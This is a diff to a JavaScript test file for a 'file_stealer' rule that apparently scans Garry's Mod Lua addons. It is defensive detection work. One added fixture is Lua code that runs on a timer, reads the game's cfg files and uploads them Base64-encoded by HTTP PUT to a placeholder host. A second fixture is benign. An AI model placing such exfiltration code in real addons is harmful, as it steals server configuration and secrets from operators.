@@ -70,4 +70,32 @@ describe('file_stealer', () => {
     });
     expect(findings).toEqual([]);
   });
+  it("the game's files read with file.AsyncRead and uploaded", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_report.lua': [
+        'local function put(name, data)',
+        ' HTTP({ url = "https://upload.example.invalid/" .. name, method = "PUT", body = util.Base64Encode(data) })',
+        'end',
+        'timer.Create("report", 1800, 0, function()',
+        ' for _, f in ipairs(file.Find("cfg/*.cfg", "GAME") or {}) do',
+        '  file.AsyncRead("cfg/" .. f, "GAME", function(name, _, status, data)',
+        '   if status == FSASYNC_OK and data then put(name, data) end',
+        '  end)',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("the addon's own data file read with file.AsyncRead", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_stats.lua': [
+        'Stats = Stats or {}',
+        'file.AsyncRead("stats/totals.json", "DATA", function(name, _, status, data)',
+        ' if status == FSASYNC_OK and data then Stats.Totals = util.JSONToTable(data) or {} end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
